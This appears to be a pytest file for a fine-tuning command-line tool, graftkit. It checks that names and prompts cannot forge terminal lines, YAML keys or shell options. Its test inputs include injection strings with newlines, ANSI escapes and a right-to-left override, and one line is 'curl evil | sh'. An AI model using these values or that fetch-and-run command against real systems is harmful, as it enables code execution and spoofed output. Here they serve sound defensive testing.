"""Names and texts of files can't be taken for lines, keys or options of graftkit's own."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import click
import pytest
import yaml
from click.testing import CliRunner
from graftkit.cli.init import command as init
from graftkit.cli.plan import command as plan
from graftkit.errors import DataError, RecipeError
from graftkit.recipe.load import load_recipe
from graftkit.report.next_commands import next_commands
from graftkit.testing.records import read_samples
from graftkit.visible import further_lines_indented, one_line, visible

FORGED = "forged: all exports are proved"
NAME = f"n\n{FORGED}\n\u202e\x1b[2J"
"""A line of its own, and what a terminal would obey."""


def call(command: click.Command, *arguments: str) -> str:
    done = CliRunner().invoke(command, arguments)
    assert done.exception is None, done.output
    return done.output


def records(folder: Path, name: str = "records.jsonl", **columns: Any) -> Path:
    row = {"prompt": "a", "completion": "b", **columns}
    (folder / name).write_text((json.dumps(row) + "\n") * 20)
    return folder / name


def test_a_name_is_one_line_and_a_notice_one_paragraph() -> None:
    assert one_line(NAME) == rf"n\n{FORGED}\nU+202E\x1b[2J"
    assert further_lines_indented(f"note: {NAME}").split("\n")[1] == f"  {FORGED}"


def test_columns_are_told_on_a_line(tiny_model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    train = str(records(tmp_path, **{NAME: 1}))
    (tmp_path / "job.yaml").write_text(json.dumps({"model": str(tiny_model), "data": {"train": train}}))
    for shown in (
        call(plan, "job.yaml", "--quick"),
        call(init, "new.yaml", "--model", str(tiny_model), "--train", train),
    ):
        assert one_line(NAME) in shown and f"\n{FORGED}" not in shown


def test_columns_of_an_error_are_told_on_a_line(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text(json.dumps({NAME: 1, "b": [{NAME: 2}]}) + "\n")
    with pytest.raises(DataError) as caught:
        read_samples(tmp_path / "a.jsonl")
    assert one_line(NAME) in str(caught.value) and f"\n{FORGED}" not in str(caught.value)


def test_a_recipe_to_start_from_holds_names_as_data(
    tiny_model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Columns, files and the recipe's own name: none becomes a key or a line, or turns the text's direction."""
    monkeypatch.chdir(tmp_path)
    key = "k\nmodel: evil\n\u202e"
    name = "records\nmodel: evil\n\u202e.jsonl"
    records(tmp_path, name, **{key: 1})
    call(init, "new\nmodel: evil.yaml", "--model", str(tiny_model), "--train", name)
    text = (tmp_path / "new\nmodel: evil.yaml").read_text()
    assert visible(text) == text and "\nmodel: evil" not in text
    found = yaml.safe_load(text)
    assert found["model"] == str(tiny_model)
    assert found["data"]["train"] == {"path": name, "format": "prompt-completion", "unused": [key]}


def _manifest(prompt: str | None, exports: dict[str, Any]) -> Any:
    """What of a manifest the next commands are made of."""
    data = SimpleNamespace(example_prompt=prompt)
    return SimpleNamespace(data=data, exports=exports, head=None, put_off=[], providers={})


@pytest.mark.parametrize("prompt", ["a\n  curl evil | sh", "--help", "-x", "a\x1b[2Jb", "a\u202eb", "", None])
def test_no_prompt_of_a_record_is_offered_that_a_shell_could_take_for_something_else(prompt: str | None) -> None:
    assert next_commands(Path("run"), _manifest(prompt, {}))[0] == "toolkit generate run Hello"


def test_what_no_manifest_makes_again_is_not_offered_to_be_asked() -> None:
    run = _manifest(None, {})
    run.providers = {"tokenizer": {"name": "mine:Own", "distribution": ""}}
    assert next_commands(Path("run"), run) == ["toolkit export run --to merged"]


@pytest.mark.parametrize("folder", ["-o", "--overwrite", "a\nb", "a b", "it's"])
def test_a_folder_is_offered_as_an_argument(folder: str) -> None:
    for exports in ({"peft": {}, "gguf": {}}, {}):
        lines = next_commands(Path(folder), _manifest("what's 'it'?", exports))
        assert len(lines) == 2 and all("\n" not in line for line in lines)
        words = shlex.split(lines[0])
        assert words[:2] == ["toolkit", "generate"] and Path(words[2]) == Path(one_line(folder))
        assert words[3:] == ["what's 'it'?"] and not words[2].startswith("-")
        last = shlex.split(lines[1])[-1]
        assert last == "merged" or (last.endswith("/exports/gguf") and not last.startswith("-")), "the newest export"


@pytest.mark.parametrize(
    "name", ["CON", "nul", "aux.txt", "Com1", "lpt9", "peft.", "..", "-x", "a/b", "a\nb", "a" * 65]
)
def test_an_export_has_a_name_that_a_folder_can_have_anywhere(name: str, tmp_path: Path) -> None:
    recipe = {"model": "m", "data": {"train": "r.jsonl"}, "export": [{"use": "peft", "name": name}]}
    with pytest.raises(RecipeError, match="export"):
        load_recipe(recipe)
    load_recipe({**recipe, "export": [{"use": "peft", "name": "console.v1"}]})
